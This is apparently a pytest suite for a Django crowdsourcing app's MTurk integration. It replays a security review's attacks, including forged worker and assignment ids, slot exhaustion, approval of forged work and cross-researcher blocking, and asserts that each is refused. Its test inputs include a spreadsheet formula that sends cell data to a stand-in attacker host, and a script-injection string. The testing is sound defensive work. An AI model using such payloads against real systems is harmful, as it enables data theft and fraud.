"""Forged MTurk task URLs (security review 2026-11-24, issue 18 point 7) and cross-researcher blocks (point 2).

The task URL's workerId, assignmentId and hitId are typed by whoever opens it. These tests
replay the review's attacks; MTurk is faked only by botocore's Stubber on a real boto3 client.
"""

import datetime as dt

import pytest
from botocore.stub import ANY
from django.contrib.messages import get_messages
from django.urls import reverse
from django.utils import timezone

from annotation.crowd.base import ProviderError
from annotation.crowd.mturk import provider as mturk_module
from annotation.crowd.mturk.provider import MTurkProvider
from annotation.crowd.mturk.sync import RELEASE_GRACE
from annotation.models import Annotator, Assignment, Rating
from annotation.models.mturk import MTurkAssignment, MTurkBlock, MTurkHIT
from annotation.quality.selectors import accepted_ratings
from annotation.services import mturk as services
from annotation.services.assignments import assignment_submit
from tests.annotation.mturk_helpers import (
    HIT_TYPE_ID,
    assignment_shape,
    expect_get_assignment,
    expect_unknown_assignment,
    hit_id,
    make_survey,
    publish_all,
)

SANDBOX_SUBMIT = "https://workersandbox.mturk.com"
REVIEWABLE = {"HITTypeId": HIT_TYPE_ID, "Status": "Reviewable", "MaxResults": 100}
ANY_PAGE = {"AssignmentStatuses": ANY, "MaxResults": 100}


@pytest.fixture
def survey(stubber, researcher):
    """A published MTurk survey: 2 HITs, MaxAssignments 2 each."""
    survey = make_survey(researcher, n_hits=2, assignments=2)
    publish_all(stubber, survey)
    return survey


@pytest.fixture
def mturk_calls(stubber):
    """The operations the provider sent to MTurk, recorded by botocore's own event hook."""
    calls = []
    client = mturk_module.mturk_client(sandbox=True)
    client.meta.events.register("before-parameter-build.mturk", lambda model, **_: calls.append(model.name))
    return calls


def task_url(survey):
    return reverse("annotation:mturk_task", args=[survey.token])


def visit(client, survey, *, assignment, worker, hit=0):
    query = {"assignmentId": assignment, "hitId": hit_id(hit), "workerId": worker, "turkSubmitTo": SANDBOX_SUBMIT}
    return client.get(task_url(survey), query)


def submit(slot):
    answers = {item.pk: {"scores": {"overall": 2 if item.kind == "instructed" else 4}} for item in slot.hit.items.all()}
    assignment_submit(assignment=slot, answers=answers)
    slot.refresh_from_db()
    return slot


def past_deadline(slot):
    """Move the slot's deadline back beyond the release grace, as if the time had passed."""
    past = timezone.now() - RELEASE_GRACE - dt.timedelta(minutes=1)
    Assignment.objects.filter(pk=slot.pk).update(expires_at=past)


def expect_sync_listing(stubber, listed_by_hit):
    stubber.add_response("list_reviewable_hits", {"NumResults": 0, "HITs": []}, REVIEWABLE)
    for n in range(2):
        listed = listed_by_hit.get(n, [])
        stubber.add_response(
            "list_assignments_for_hit",
            {"NumResults": len(listed), "Assignments": listed},
            {"HITId": hit_id(n), **ANY_PAGE},
        )


# --- the shape of the ids ------------------------------------------------------------------------
@pytest.mark.parametrize(
    "worker",
    [
        '=HYPERLINK("http://evil.example/steal?"&A1,"click")',
        "<script>alert(1)</script>",
        "A" + "B" * 149,
        "a b",
        "AWORKER\n",
        "aworkerlower",
    ],
    ids=["formula", "script", "150-chars", "space", "newline", "lowercase"],
)
def test_a_worker_id_mturk_could_not_have_written_is_refused_and_nothing_is_stored(client, survey, worker):
    page = visit(client, survey, assignment="3ASGGOOD", worker=worker)
    assert page.status_code == 400
    html = page.content.decode()
    assert "The workerId parameter is not an MTurk id" in html
    assert "<script>alert" not in html and "HYPERLINK" not in html  # the value is not echoed
    assert not Annotator.objects.exists()
    assert not Assignment.objects.exclude(status=Assignment.Status.OPEN).exists()


@pytest.mark.parametrize(
    ("field", "value"),
    [("assignmentId", "FORGED-1"), ("assignmentId", "3" * 65), ("hitId", "3hit-lower"), ("workerId", "")],
)
def test_malformed_assignment_and_hit_ids_are_refused_naming_the_parameter(client, survey, field, value):
    query = {"assignmentId": "3ASGGOOD", "hitId": hit_id(0), "workerId": "AWORKERGOOD", field: value}
    page = client.get(task_url(survey), query)
    assert page.status_code == 400
    assert f"The {field} parameter" in page.content.decode()
    assert not Annotator.objects.exists()
    assert not Assignment.objects.exclude(status=Assignment.Status.OPEN).exists()


def test_a_malformed_post_stores_no_rating(client, survey):
    visit(client, survey, assignment="3ASGGOOD", worker="AWORKERGOOD")
    slot = Assignment.objects.select_related("hit").get(external_id="3ASGGOOD")
    data = {"assignmentId": "3ASGGOOD", "hitId": hit_id(0), "workerId": "<b>x</b>", "assignment_token": slot.token}
    data.update({f"score-{item.pk}-overall": "4" for item in slot.hit.items.all()})
    assert client.post(task_url(survey), data).status_code == 400
    assert not Rating.objects.exists()


# --- slots ---------------------------------------------------------------------------------------
def test_a_workers_slot_is_never_re_pointed_to_another_assignment_id(client, survey):
    assert visit(client, survey, assignment="3ASGREALW1", worker="AREALW1").status_code == 200
    attack = visit(client, survey, assignment="3ATTACKERAID", worker="AREALW1")
    assert attack.status_code == 409
    slot = Assignment.objects.get(annotator__worker_id="AREALW1")
    assert slot.external_id == "3ASGREALW1"
    assert not Assignment.objects.filter(external_id="3ATTACKERAID").exists()
    # The genuine worker carries on: same slot, same token, no 409.
    again = visit(client, survey, assignment="3ASGREALW1", worker="AREALW1")
    assert again.status_code == 200
    assert slot.token in again.content.decode()


def test_two_hundred_forged_visits_never_grow_a_hit_beyond_max_assignments(client, survey):
    assert MTurkHIT.objects.get(hit__position=0).max_assignments == 2  # from MTurk's CreateHIT answer
    statuses = [visit(client, survey, assignment=f"3FORGED{n}", worker=f"AFORGER{n}").status_code for n in range(200)]
    assert statuses[:2] == [200, 200]
    assert set(statuses[2:]) == {409}
    hit = survey.hits.get(position=0)
    assert Assignment.objects.filter(hit=hit).count() == 2
    assert Annotator.objects.count() == 2


def test_the_slot_limit_is_our_hit_rows_max_assignments(client, survey):
    MTurkHIT.objects.filter(hit__position=0).update(max_assignments=1)
    assert visit(client, survey, assignment="3ASGFIRST", worker="AFIRST").status_code == 200
    assert visit(client, survey, assignment="3ASGSECOND", worker="ASECOND").status_code == 409
    assert Assignment.objects.filter(hit__position=0, hit__survey=survey).exclude(status="open").count() == 1


def test_a_slot_left_past_its_deadline_goes_to_the_next_worker_within_the_limit(client, survey):
    for n in range(2):
        visit(client, survey, assignment=f"3ABANDONED{n}", worker=f"AGONE{n}")
    abandoned = Assignment.objects.get(external_id="3ABANDONED0")
    Assignment.objects.filter(pk=abandoned.pk).update(expires_at=timezone.now() - dt.timedelta(seconds=1))
    page = visit(client, survey, assignment="3ASGNEXT", worker="ANEXT")
    assert page.status_code == 200
    abandoned.refresh_from_db()
    assert (abandoned.external_id, abandoned.annotator.worker_id) == ("3ASGNEXT", "ANEXT")
    assert Assignment.objects.filter(hit=abandoned.hit).count() == 2


# --- reconciliation ------------------------------------------------------------------------------
def test_a_forged_submission_stays_unconfirmed_and_counts_nowhere(client, survey):
    visit(client, survey, assignment="3FORGED1", worker="AVICTIMWORKER")
    slot = submit(Assignment.objects.select_related("hit__survey", "annotator").get(external_id="3FORGED1"))
    assert slot.status == Assignment.Status.SUBMITTED
    assert Rating.objects.filter(assignment=slot).count() == 2
    assert not accepted_ratings(dataset=survey.dataset, apply_exclusions=False).exists()


def test_approving_a_forged_assignment_never_calls_approve_assignment(client, stubber, survey, mturk_calls):
    visit(client, survey, assignment="3FORGED1", worker="AVICTIMWORKER")
    slot = submit(Assignment.objects.select_related("hit__survey", "annotator").get(external_id="3FORGED1"))
    expect_unknown_assignment(stubber, "3FORGED1")
    with pytest.raises(ProviderError, match="does not confirm assignment 3FORGED1"):
        services.mturk_approve(assignment=slot)
    assert mturk_calls == ["GetAssignment"]
    slot.refresh_from_db()
    assert (slot.status, slot.external_status) == (Assignment.Status.SUBMITTED, "")


def test_the_approve_button_on_a_forged_assignment_says_why_and_sends_nothing(
    client, stubber, researcher, survey, mturk_calls
):
    visit(client, survey, assignment="3FORGED1", worker="AVICTIMWORKER")
    submit(Assignment.objects.select_related("hit__survey", "annotator").get(external_id="3FORGED1"))
    client.force_login(researcher)
    for page, data in (
        (reverse("annotation:mturk_action", args=[survey.pk]), {"action": "approve", "assignment_id": "3FORGED1"}),
        (
            reverse(
                "annotation:survey_review",
                args=[survey.pk, Annotator.objects.get(worker_id="AVICTIMWORKER").pk],
            ),
            {"action": "approve", "assignment": Assignment.objects.get(external_id="3FORGED1").pk},
        ),
    ):
        expect_unknown_assignment(stubber, "3FORGED1")
        response = client.post(page, data)
        assert response.status_code == 302
        notes = [str(m) for m in get_messages(response.wsgi_request)]
        assert any("does not confirm assignment 3FORGED1" in note for note in notes)
    assert mturk_calls == ["GetAssignment", "GetAssignment"]
    assert Assignment.objects.get(external_id="3FORGED1").status == Assignment.Status.SUBMITTED


def test_an_assignment_mturk_names_for_another_worker_is_not_approved(client, stubber, survey, mturk_calls):
    # The attacker replays a real assignment id under the victim's worker id.
    visit(client, survey, assignment="3ASGREAL", worker="AVICTIMWORKER")
    slot = submit(Assignment.objects.select_related("hit__survey", "annotator").get(external_id="3ASGREAL"))
    expect_get_assignment(stubber, "3ASGREAL", hit=hit_id(0), worker="AREALWORKER")
    with pytest.raises(ProviderError, match="does not confirm"):
        services.mturk_approve(assignment=slot)
    assert mturk_calls == ["GetAssignment"]
    assert MTurkAssignment.objects.get(mturk_id="3ASGREAL").confirmed is False


def test_get_assignment_confirms_genuine_work_before_approving_it(client, stubber, survey, mturk_calls):
    visit(client, survey, assignment="3ASGREAL", worker="AREALWORKER")
    slot = submit(Assignment.objects.select_related("hit__survey", "annotator").get(external_id="3ASGREAL"))
    expect_get_assignment(stubber, "3ASGREAL", hit=hit_id(0), worker="AREALWORKER")
    stubber.add_response("approve_assignment", {}, {"AssignmentId": "3ASGREAL"})
    assert services.mturk_approve(assignment=slot) is True
    assert mturk_calls == ["GetAssignment", "ApproveAssignment"]
    assert MTurkAssignment.objects.get(mturk_id="3ASGREAL").confirmed is True
    assert accepted_ratings(dataset=survey.dataset, apply_exclusions=False).count() == 2


def test_sync_releases_a_forged_slot_after_its_deadline_and_a_real_worker_gets_it(client, stubber, survey):
    for n in range(2):
        visit(client, survey, assignment=f"3FORGED{n}", worker=f"AFORGER{n}")
    forged = submit(Assignment.objects.select_related("hit__survey", "annotator").get(external_id="3FORGED0"))
    old_token = forged.token
    assert visit(client, survey, assignment="3ASGREAL", worker="AREALWORKER").status_code == 409  # HIT full
    for slot in Assignment.objects.filter(external_id__startswith="3FORGED"):
        past_deadline(slot)

    expect_sync_listing(stubber, {})
    expect_unknown_assignment(stubber, "3FORGED0")
    expect_unknown_assignment(stubber, "3FORGED1")
    summary = MTurkProvider(sandbox=True).sync(survey=survey)
    assert summary["released"] == 2

    forged.refresh_from_db()
    assert (forged.status, forged.annotator_id, forged.external_id) == (Assignment.Status.OPEN, None, "")
    assert forged.token != old_token  # the forger's token can no longer submit
    assert not Rating.objects.exists()
    page = visit(client, survey, assignment="3ASGREAL", worker="AREALWORKER")
    assert page.status_code == 200


def test_sync_keeps_unconfirmed_work_before_its_deadline_and_confirmed_work_always(client, stubber, survey):
    visit(client, survey, assignment="3ASGPENDING", worker="APENDING")
    visit(client, survey, assignment="3ASGLISTED", worker="ALISTED", hit=1)
    listed = submit(Assignment.objects.select_related("hit__survey", "annotator").get(external_id="3ASGLISTED"))
    past_deadline(listed)
    shape = {**assignment_shape(0, hit=hit_id(1), worker="ALISTED"), "AssignmentId": "3ASGLISTED"}
    expect_sync_listing(stubber, {1: [shape]})
    summary = MTurkProvider(sandbox=True).sync(survey=survey)  # no GetAssignment: nothing to release
    assert (summary["confirmed"], summary["released"]) == (1, 0)
    assert Assignment.objects.get(external_id="3ASGPENDING").status == Assignment.Status.ACTIVE
    assert Rating.objects.filter(assignment=listed).count() == 2


def test_sync_keeps_a_late_slot_that_get_assignment_confirms(client, stubber, survey):
    visit(client, survey, assignment="3ASGLATE", worker="ALATE")
    late = submit(Assignment.objects.select_related("hit__survey", "annotator").get(external_id="3ASGLATE"))
    past_deadline(late)
    expect_sync_listing(stubber, {})
    expect_get_assignment(stubber, "3ASGLATE", hit=hit_id(0), worker="ALATE")
    assert MTurkProvider(sandbox=True).sync(survey=survey)["released"] == 0
    assert MTurkAssignment.objects.get(mturk_id="3ASGLATE").confirmed is True
    assert Rating.objects.filter(assignment=late).count() == 2


# --- blocking (point 2) ---------------------------------------------------------------------------
@pytest.fixture
def a_worker_of_researcher_a(client, stubber, survey):
    """AWORKERREAL did confirmed work on researcher A's survey."""
    visit(client, survey, assignment="3ASGREAL", worker="AWORKERREAL")
    submit(Assignment.objects.select_related("hit__survey", "annotator").get(external_id="3ASGREAL"))
    shape = {**assignment_shape(0, hit=hit_id(0), worker="AWORKERREAL"), "AssignmentId": "3ASGREAL"}
    expect_sync_listing(stubber, {0: [shape]})
    MTurkProvider(sandbox=True).sync(survey=survey)
    return "AWORKERREAL"


def test_a_researcher_cannot_block_another_researchers_worker_nor_learn_that_it_exists(
    client, stubber, other_researcher, a_worker_of_researcher_a, mturk_calls
):
    b_survey = make_survey(other_researcher, n_hits=1, name="b-turk-study")
    client.force_login(other_researcher)
    url = reverse("annotation:mturk_action", args=[b_survey.pk])
    answers = []
    for worker in (a_worker_of_researcher_a, "ANOBODYATALL"):
        response = client.post(url, {"action": "block", "worker_id": worker, "reason": "spite", "confirm": "yes"})
        note = [str(m) for m in get_messages(response.wsgi_request)][-1]
        answers.append((response.status_code, response["Location"], note))
    assert answers[0] == answers[1]
    assert answers[0][0] == 302
    assert "Only workers MTurk lists on your own surveys can be blocked" in answers[0][2]
    assert not MTurkBlock.objects.exists()
    assert mturk_calls == []


def test_forging_a_visit_on_ones_own_survey_does_not_make_a_worker_blockable(
    client, other_researcher, a_worker_of_researcher_a, mturk_calls
):
    b_survey = make_survey(other_researcher, n_hits=1, name="b-turk-study")
    b_hit = b_survey.hits.get()
    b_hit.external_id = "3BHIT"
    b_hit.save()
    client.get(task_url(b_survey), {"assignmentId": "3BFORGED", "hitId": "3BHIT", "workerId": a_worker_of_researcher_a})
    assert Assignment.objects.filter(hit=b_hit, annotator__worker_id=a_worker_of_researcher_a).exists()
    with pytest.raises(ProviderError, match="Only workers MTurk lists"):
        services.mturk_block(survey=b_survey, worker_id=a_worker_of_researcher_a, reason="spite")
    assert not MTurkBlock.objects.exists()
    assert mturk_calls == []


def test_a_researcher_blocks_a_worker_mturk_listed_on_their_own_survey(
    client, stubber, researcher, survey, a_worker_of_researcher_a
):
    stubber.add_response(
        "associate_qualification_with_worker",
        {},
        {"QualificationTypeId": ANY, "WorkerId": "AWORKERREAL", "IntegerValue": 1, "SendNotification": False},
    )
    client.force_login(researcher)
    url = reverse("annotation:mturk_action", args=[survey.pk])
    response = client.post(
        url, {"action": "block", "worker_id": "AWORKERREAL", "reason": "Low agreement", "confirm": "yes"}
    )
    assert response.status_code == 302
    assert MTurkBlock.objects.get().annotator.worker_id == "AWORKERREAL"


def test_the_pages_block_button_names_the_workers_row_and_blocks_them(
    client, stubber, researcher, survey, a_worker_of_researcher_a
):
    """The page's form carries the annotator's row id, not the worker id (a page showing pseudonyms
    to an admin leaks no id through it)."""
    stubber.add_response(
        "associate_qualification_with_worker",
        {},
        {"QualificationTypeId": ANY, "WorkerId": "AWORKERREAL", "IntegerValue": 1, "SendNotification": False},
    )
    worker = Annotator.objects.get(worker_id="AWORKERREAL")
    client.force_login(researcher)
    page = client.get(reverse("annotation:mturk_survey", args=[survey.pk])).content.decode()
    assert f'name="annotator" value="{worker.pk}"' in page and 'name="worker_id"' not in page
    response = client.post(
        reverse("annotation:mturk_action", args=[survey.pk]),
        {"action": "block", "annotator": worker.pk, "reason": "Low agreement", "confirm": "yes"},
    )
    assert [str(m) for m in get_messages(response.wsgi_request)][-1] == "Blocked AWORKERREAL."
    assert MTurkBlock.objects.get().annotator == worker
